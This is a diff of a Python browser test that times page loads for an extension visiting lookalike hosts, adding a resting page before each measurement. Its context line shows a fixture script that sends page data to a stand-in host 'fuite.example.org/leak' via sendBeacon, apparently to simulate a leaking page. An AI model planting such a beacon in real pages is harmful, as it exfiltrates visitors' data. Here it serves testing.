@@ -19,6 +19,8 @@ from tests.extension.spared import SPARED
 del SPARED["layout.frame_rate"]  # when something is painted is measured as a patient sees it
 
 ROUNDS = 30
+AT_REST = 0.5
+"""Seconds after a page has loaded until somebody leaves it: by then no browser is busy with it any more."""
 COLD_STARTS = 5
 LOADED = "return performance.timeOrigin + performance.getEntriesByType('navigation')[0].loadEventEnd"
 SAYS = "return document.readyState === 'complete' && Boolean(document.querySelector('h1').textContent)"
@@ -31,7 +33,9 @@ TELLS_WHEN = "<script>navigator.sendBeacon('https://fuite.example.org/leak?' + p
 
 def until_painted(browser: Browser, host: str, is_ours: bool) -> tuple[float, float]:
     """Milliseconds from the order to open an address until what is shown in the end has loaded, and until it can be
-    read, by its own clock."""
+    read, by its own clock. It is opened from an ordinary page that has come to rest."""
+    browser.open("http://journal.example.com/")
+    time.sleep(AT_REST)
     began = time.time() * 1000
     browser.open(f"http://{host}/")
     browser.until(lambda: browser.is_stopped == is_ours and browser.run(SAYS))
@@ -90,7 +94,6 @@ def test_measure(
         host = f"ameli-carte-{number}.info"
         plain_of.append(until_painted(bare, host, is_ours=False))
         warm_of.append(until_painted(browser, host, is_ours=True))
-        browser.open("http://journal.example.com/")
         again_of.append(until_painted(browser, host, is_ours=True))
     asked = []
     browser.page("pages/options.html")
